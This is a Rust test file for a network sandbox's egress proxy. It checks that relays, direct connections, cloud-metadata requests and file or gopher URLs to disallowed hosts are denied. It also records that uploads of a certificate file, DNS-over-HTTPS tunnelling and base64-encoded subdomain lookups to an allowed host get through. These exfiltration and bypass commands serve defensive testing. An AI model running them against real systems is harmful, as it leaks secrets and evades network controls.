//! S26, S42, S43, S44: who asks, and by which way, changes nothing; and what judging by host lets
//! through, told as what it is.

use crate::asking::POLICY;
use crate::internet::{EVIL, GOOD, GOOD_6, Internet};

/// Python: a relay on a port of its own, and from then on the proxy is reached through it.
const RELAY: &str = "
import threading
def relay(to):
    server = socket.create_server(('127.0.0.1', 0))
    def copy(a, b):
        try:
            while (data := a.recv(4096)): b.sendall(data)
        except OSError: pass
        try: b.shutdown(1)
        except OSError: pass
    def serve():
        while True:
            a, _ = server.accept()
            b = socket.create_connection(to)
            for pair in ((a, b), (b, a)): threading.Thread(target=copy, args=pair, daemon=True).start()
    threading.Thread(target=serve, daemon=True).start()
    return server.getsockname()
";

#[test]
fn s26_a_relay_inside_is_judged_as_its_client() {
    let Some(net) = Internet::take() else { return };
    let act = |want: u16| {
        format!(
            "{RELAY}
def by(name): return b'CONNECT ' + name + b':443 HTTP/1.1\\r\\nHost: ' + name + b':443\\r\\n\\r\\n'
at = relay((PROXY, 3128))
assert status(by(b'good.test'), at) == 200
assert status(by(b'evil.test'), at) == {want}"
        )
    };
    net.asks_outside(&act(200)).works("without a wall");
    assert!(net.evil() > 0);
    net.forget();
    net.asks_inside(POLICY, &act(403)).works("inside");
    assert_eq!(net.evil(), 0);
    assert_eq!(net.connections("evil.test"), ["proxy 443 denied host-not-allowed 1"]);
    // By its own address as well: a relay to it is for it.
    let act = "
r = relay(('good.test', 443))
assert tls(r, hello('good.test')) == 22
assert tls(r, hello('evil.test')) == 21";
    net.asks_inside(POLICY, &format!("{RELAY}{act}")).works("to an address");
    // Whichever ends first: the relay holds both.
    let denied = "direct 443 denied name-mismatch 1";
    assert!(net.connections("good.test").iter().any(|one| one == denied));
}

#[test]
fn s42_plain_http_is_judged() {
    let Some(net) = Internet::take() else { return };
    let ask = |name: &str| {
        format!("assert status(b'GET http://{name}/x HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n')")
    };
    net.asks_outside(&format!("{} == 200", ask("evil.test"))).works("without a wall");
    assert!(net.evil() > 0);
    net.forget();
    net.asks_inside(POLICY, &format!("{} == 403", ask("evil.test"))).works("by the proxy");
    assert_eq!(net.connections("evil.test"), ["proxy 80 denied host-not-allowed 1"]);
    let direct = format!(
        "assert status(b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n', ('{EVIL}', 80)) =="
    );
    net.asks_outside(&format!("{direct} 200")).works("without a wall");
    net.forget();
    net.asks_inside(POLICY, &format!("{direct} 403")).works("by its address");
    assert_eq!(net.connections(EVIL), ["direct 80 denied host-not-allowed 1"]);
    assert_eq!((net.evil(), net.seen().packets), (0, vec![]));
    net.asks_inside(POLICY, &format!("{} == 200", ask("good.test"))).works("twin");
    assert_eq!(net.connections("good.test"), ["proxy 80 allowed - 1"]);
}

/// S43: whatever fetches on behalf of the workload is the gateway, and it knows HTTP and nothing else.
#[test]
fn s43_nothing_fetches_what_the_workload_may_not() {
    let Some(net) = Internet::take() else { return };
    let metadata = "169.254.169.254";
    let get = |target: &str| format!("status(b'GET {target} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')");
    let at = get(&format!("http://{metadata}/")).replace("Host: x", &format!("Host: {metadata}"));
    net.asks_outside(&format!("assert {at} == 200")).works("without a wall");
    assert!(net.hits(metadata) + net.settled().requests_to(metadata).len() > 0);
    net.forget();
    net.asks_inside(POLICY, &format!("assert {at} == 403")).works("by no rule");
    for target in ["file:///etc/passwd", "gopher://good.test/x", "ftp://good.test/x", "/etc/passwd"]
    {
        net.asks_inside(POLICY, &format!("assert {} == 400", get(target))).works(target);
    }
    let rule = format!("version = 1\n[[network.allow]]\nhost = '{metadata}'\nports = [80]\n");
    net.asks_inside(&rule, &format!("assert {at} == 403")).works("not even by a rule");
    assert_eq!(
        net.connections(metadata),
        ["proxy 80 denied host-not-allowed 1", "proxy 80 denied forbidden-address 1"]
    );
    assert_eq!((net.seen().packets, net.seen_by_host().packets), (vec![], vec![]));
    let rule = format!("{rule}dial = '{GOOD}:80'\n");
    net.asks_inside(&rule, &format!("assert {at} == 200")).works("but where a person says where");
}

/// What is judged is the host: an upload with somebody else's key, a question to a resolver behind
/// HTTPS, and a name below a wildcard, which the domain's name server hears, all go through. This is
/// what a rule grants until requests are looked into.
#[test]
fn s31_s44_what_an_allowed_host_takes_is_let_through() {
    let Some(net) = Internet::take() else { return };
    let upload = "curl -sS --fail -H 'authorization: Bearer foreign' --data-binary @ca.pem https://good.test/v1/files";
    net.inside(POLICY, &["sh", "-c", upload]).works("an upload with a foreign key");
    let doh = "curl -sS --fail -H 'accept: application/dns-message' 'https://good.test/dns-query?dns=AAABAAABAAAAAAAABnR1bm5lbARldmlsBHRlc3QAAAEAAQ'";
    net.inside(POLICY, &["sh", "-c", doh]).works("a name by HTTPS");
    net.inside(POLICY, &["sh", "-c", "curl -sS --fail http://c2VjcmV0.good.test/"]).works("a name");
    let seen = net.settled();
    let ca = net.place.read("home/src/app/ca.pem");
    assert!(seen.requests.iter().any(|one| one.body == ca.as_bytes()), "the file has arrived");
    assert!(seen.requests.iter().any(|one| one.head.contains("Bearer foreign")));
    assert!(seen.requests.iter().any(|one| one.target.starts_with("/dns-query?dns=")));
    assert!(net.names().contains(&"c2vjcmv0.good.test".to_owned()), "{:?}", net.names());
    // The record says to whom, and how much.
    let sent = net.events("connection").iter().filter_map(|one| one["sent"].as_u64()).max();
    assert!(sent.unwrap() > ca.len() as u64);
    assert!(net.hits(GOOD) + net.hits(GOOD_6) >= 3);
    net.inside(POLICY, &["sh", "-c", &upload.replace("good", "evil")]).fails(&["403"], "elsewhere");
    assert_eq!(net.evil(), 0);
}
